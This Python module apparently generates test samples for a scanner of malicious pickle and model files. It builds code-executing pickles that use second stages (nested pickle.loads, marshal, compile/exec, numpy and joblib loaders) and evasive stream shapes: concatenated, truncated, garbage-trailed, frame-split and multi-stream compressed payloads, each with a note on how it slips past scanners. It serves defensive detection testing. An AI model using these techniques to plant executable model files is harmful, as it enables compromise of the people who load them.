"""Malicious pickles with a second stage or an unusual stream shape.

Second stages: nested pickles, marshal, compile, numpy/joblib loaders. Stream shapes: concatenated
pickles, garbage after the payload, truncation, frames that split the call.
"""

from __future__ import annotations

import bz2
import lzma
import marshal
import pickle
import struct
from collections.abc import Callable

from ._payload import EXEC, OS_SYSTEM, os_system, program
from ._pickle_asm import Asm, Call, Global, NewObj
from ._registry import Canary, sample

# -- second stages ---------------------------------------------------------------------------------


@sample(
    "pickle_loads_nested",
    technique="second-stage:pickle.loads",
    container="pickle",
    filename="wrapper.pkl",
    description="pickle.loads(bytes) where the bytes are a second pickle that runs os.system.",
)
def _pickle_loads(c: Canary) -> bytes:
    return program(4, Call(Global("pickle", "loads"), (os_system(c, 2),)))


@sample(
    "c_pickle_loads_nested",
    technique="second-stage:_pickle.loads",
    container="pickle",
    filename="wrapper_c.pkl",
    description="_pickle.loads on an embedded protocol-0 pickle.",
)
def _c_pickle_loads(c: Canary) -> bytes:
    return program(3, Call(Global("_pickle", "loads"), (os_system(c, 0),)))


@sample(
    "cpickle_loads_py2",
    technique="second-stage:cPickle.loads",
    container="pickle",
    filename="wrapper_py2.pkl",
    description="Python 2 name cPickle.loads at protocol 2; the bytes travel as _codecs.encode(text, "
    "'latin1') because protocol 2 has no bytes opcode.",
)
def _cpickle(c: Canary) -> bytes:
    return program(2, Call(Global("cPickle", "loads"), (os_system(c, 4),)))


@sample(
    "marshal_function_type",
    technique="second-stage:marshal-FunctionType",
    container="pickle",
    filename="lambda_layer.pkl",
    advisory="GHSA-565g-hwwr-4pp3",
    description="types.FunctionType(marshal.loads(code), {})(): a marshalled code object (CPython-version "
    "specific, written by this interpreter) becomes a function and is called.",
)
def _marshal(c: Canary) -> bytes:
    code = marshal.dumps(compile(c.py, "<model>", "exec"))
    fn = Call(Global("types", "FunctionType"), (Call(Global("marshal", "loads"), (code,)), {}))
    return program(4, Call(fn, ()))


@sample(
    "compile_exec",
    technique="second-stage:compile-exec",
    container="pickle",
    filename="compiled.pkl",
    description="builtins.exec(builtins.compile(src, '<string>', 'exec')).",
)
def _compile_exec(c: Canary) -> bytes:
    code = Call(Global("builtins", "compile"), (c.py, "<string>", "exec"))
    return program(3, Call(EXEC, (code,)))


@sample(
    "codeop_compile_command",
    technique="second-stage:codeop-FunctionType",
    container="pickle",
    filename="repl_state.pkl",
    description="codeop.compile_command(src) compiles, types.FunctionType(code, {})() runs it.",
)
def _codeop(c: Canary) -> bytes:
    code = Call(Global("codeop", "compile_command"), (c.py,))
    return program(4, Call(Call(Global("types", "FunctionType"), (code, {})), ()))


@sample(
    "code_interactive_runsource",
    technique="second-stage:code.InteractiveInterpreter",
    container="pickle",
    filename="notebook_state.pkl",
    advisory="GHSA-q5qq-mvfm-j35x",
    description="getattr(code.InteractiveInterpreter(), 'runsource')(src).",
)
def _runsource(c: Canary) -> bytes:
    fn = Call(
        Global("builtins", "getattr"), (Call(Global("code", "InteractiveInterpreter"), ()), "runsource")
    )
    return program(5, Call(fn, (c.py,)))


@sample(
    "numpy_load_allow_pickle",
    technique="second-stage:numpy.load",
    container="pickle",
    filename="features.pkl",
    requires=("numpy",),
    description="partial(numpy.load, allow_pickle=True) built with NEWOBJ_EX, called on io.BytesIO of an "
    ".npy object array whose pickle runs the payload.",
)
def _np_load(c: Canary) -> bytes:
    from ._trojans_archives import npy_object

    loader = NewObj(Global("functools", "partial"), (Global("numpy", "load"),), {"allow_pickle": True})
    return program(4, Call(loader, (Call(Global("io", "BytesIO"), (npy_object(c),)),)))


@sample(
    "joblib_load_bytesio",
    technique="second-stage:joblib.load",
    container="pickle",
    filename="ensemble.pkl",
    requires=("joblib",),
    description="joblib.load(io.BytesIO(...)) on an embedded zlib-compressed joblib payload.",
)
def _joblib_load(c: Canary) -> bytes:
    import zlib

    return program(
        4, Call(Global("joblib", "load"), (Call(Global("io", "BytesIO"), (zlib.compress(os_system(c)),)),))
    )


# -- stream shapes ---------------------------------------------------------------------------------

_BENIGN = {"epoch": 3, "lr": 0.001, "classes": ["cat", "dog"]}


def _benign(proto: int) -> bytes:
    return Asm(proto).push(_BENIGN).program()  # type: ignore[arg-type]


@sample(
    "concat_payload_second",
    technique="stream:concatenated",
    container="pickle",
    filename="training_log.pkl",
    loader="pickle-stream",
    description="Two pickles back to back; the first is a harmless dict, the second runs the payload. "
    "Live for any reader that calls pickle.load until EOF.",
)
def _concat2(c: Canary) -> bytes:
    return _benign(4) + os_system(c, 2)


@sample(
    "concat_payload_third",
    technique="stream:concatenated",
    container="pickle",
    filename="history.pkl",
    loader="pickle-stream",
    description="Three pickles; only the third one (protocol 0) is malicious.",
)
def _concat3(c: Canary) -> bytes:
    return _benign(2) + _benign(4) + program(0, Call(EXEC, (c.py,)))


@sample(
    "broken_after_reduce_badop",
    technique="stream:broken-after-payload",
    container="pickle",
    filename="broken_model.pkl",
    description="nullifAI shape: the payload REDUCE comes first, then an invalid opcode 0xff and no STOP. "
    "The load raises after the payload ran; a scanner that discards broken streams misses it.",
)
def _badop(c: Canary) -> bytes:
    return Asm(2).push(Call(OS_SYSTEM, (c.sh,))).op(b"\xff\xfe garbage").program(stop=False)


@sample(
    "truncated_after_reduce",
    technique="stream:truncated",
    container="pickle",
    filename="partial_download.pkl",
    description="The stream ends in the middle of a BINUNICODE operand right after the payload REDUCE.",
)
def _truncated(c: Canary) -> bytes:
    a = Asm(3).push(Call(EXEC, (c.py,))).op(pickle.BINUNICODE + struct.pack("<I", 4096) + b"weights")
    return a.program(stop=False)


@sample(
    "frame_split_payload",
    technique="stream:FRAME-split",
    container="pickle",
    filename="sharded.pkl",
    description="Protocol 4 with four FRAMEs: module string, name and STACK_GLOBAL, arguments, REDUCE; "
    "no frame holds the whole call.",
)
def _frames(c: Canary) -> bytes:
    a = Asm(4).str_("subprocess").memoize().frame_break().str_("getoutput").memoize().stack_global()
    a.frame_break().str_(c.sh).tuple_n(1).frame_break().reduce()
    return a.program(frames=True)


# -- multi-stream compressed files -----------------------------------------------------------------
# The pickle is cut in two and each half compressed as a stream of its own: the codec's file readers
# (gzip.GzipFile, bz2/lzma/lz4 file objects, joblib's) join the streams, so the call in the second
# half runs; a scanner that decodes only the first stream sees a harmless, truncated pickle.


def _halves(c: Canary) -> tuple[bytes, bytes]:
    stream = program(2, Call(Global("subprocess", "Popen"), (c.argv,)))
    cut = len(stream) // 2
    return stream[:cut], stream[cut:]


@sample(
    "gzip_members_padded_split",
    technique="stream:multi-member-gzip",
    container="pickle.gz",
    filename="model.pkl.gz",
    loader="pandas",
    requires=("pandas",),
    description="A pickle cut across two gzip members with zero padding between them; gzip.GzipFile "
    "(pandas.read_pickle) skips the padding and joins the members, so the call in the second runs.",
)
def _gzip_split(c: Canary) -> bytes:
    import gzip

    first, second = _halves(c)
    return gzip.compress(first, mtime=0) + b"\x00" * 8 + gzip.compress(second, mtime=0)


@sample(
    "gzip_payload_then_garbage",
    technique="stream:trailing-garbage",
    container="pickle.gz",
    filename="scores.pkl.gz",
    loader="pandas",
    requires=("pandas",),
    description="A gzip member holding the payload pickle, followed by bytes that are no gzip member: the "
    "reader fails only after the pickle was read and its call ran.",
)
def _gzip_garbage(c: Canary) -> bytes:
    import gzip

    return gzip.compress(os_system(c, 2), mtime=0) + b"\x13\x37 not a gzip member"


def _joblib_split(name: str, filename: str, codec: str, compress: Callable[[bytes], bytes]) -> None:
    @sample(
        name,
        technique=f"stream:multi-stream-{codec}",
        container=f"joblib-{codec}",
        filename=filename,
        loader="joblib",
        requires=("joblib",),
        description=f"A pickle cut across two {codec} streams; joblib.load (and the {codec} file reader) "
        "decodes one stream after the other, so the call in the second stream runs.",
    )
    def _build(c: Canary) -> bytes:
        first, second = _halves(c)
        return compress(first) + compress(second)


def _lz4(data: bytes) -> bytes:
    import lz4.frame

    return bytes(lz4.frame.compress(data))


_joblib_split("bz2_streams_split", "model.joblib.bz2", "bz2", bz2.compress)
_joblib_split("xz_streams_split", "model.joblib.xz", "xz", lzma.compress)
_joblib_split(
    "lzma_alone_streams_split",
    "model.joblib.lzma",
    "lzma",
    lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE),
)
_joblib_split("lz4_frames_split", "model.joblib.lz4", "lz4", _lz4)
